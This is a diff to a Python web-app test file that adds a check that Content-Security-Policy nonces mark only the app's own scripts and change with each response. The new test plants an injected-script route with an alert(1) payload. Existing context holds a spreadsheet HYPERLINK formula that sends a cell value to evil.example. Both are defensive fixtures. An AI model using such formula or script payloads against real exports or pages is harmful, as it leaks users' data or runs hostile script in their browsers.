@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 import xml.etree.ElementTree as ET
 
 import pytest
@@ -22,6 +23,7 @@ from tests.web.conftest import city_copy, spot_in
 from tests.web.test_bad_input import png_header
 from tests.web.test_plan_compare import make_plan, neighborhoods
 from web import create_app
+from web.auth import public
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"详情")'
 
@@ -174,3 +176,39 @@ def test_photos_per_user_per_hour(photo_app, k_db):
     assert _report(officer, spot, [(io.BytesIO(_png()), "a.png")]).status_code == 429
     r = _report(other, spot, [(io.BytesIO(_png()), "a.png")])
     assert r.status_code == 201  # another user counts alone
+
+
+def _nonce(response) -> str:
+    policy = response.headers["Content-Security-Policy"]
+    return re.search(r"'nonce-([^']+)'", policy).group(1)
+
+
+def test_the_nonce_is_on_the_apps_own_scripts_only(k_db):
+    """A route answering HTML with a script in it (as an HTML injection would put one)
+    gets no nonce; the map page and the templates' scripts carry this answer's nonce."""
+    app = create_app({"DATABASE_URL": k_db, "TESTING": True})
+
+    @app.get("/test-injected")
+    @public
+    def injected():
+        return "<p>an area named <script>alert(1)</script><script src=/x.js></script></p>"
+
+    client = app.test_client()
+    r = client.get("/test-injected")
+    assert r.status_code == 200 and r.mimetype == "text/html"
+    body = r.get_data(as_text=True)
+    assert "<script>alert(1)</script><script src=/x.js></script>" in body
+    assert "nonce" not in body and _nonce(r)
+
+    viewer = signed_in(app.test_client(), k_db, "viewer")
+    for path in ("/", "/public/", "/openapi"):
+        r = viewer.get(path, headers={"Accept": "text/html"})
+        assert r.status_code == 200, path
+        page = r.get_data(as_text=True)
+        tags = re.findall(r"<script\b[^>]*>", page)
+        assert tags, path
+        assert all(f'nonce="{_nonce(r)}"' in tag for tag in tags), (path, tags)
+        if path == "/":  # folium's page: its inline scripts and the vendored files
+            assert "GridMap.init(" in page and "L_NO_TOUCH" in page and len(tags) == 5
+    two = [_nonce(viewer.get("/public/")) for _ in range(2)]
+    assert two[0] != two[1]  # a new one for every answer
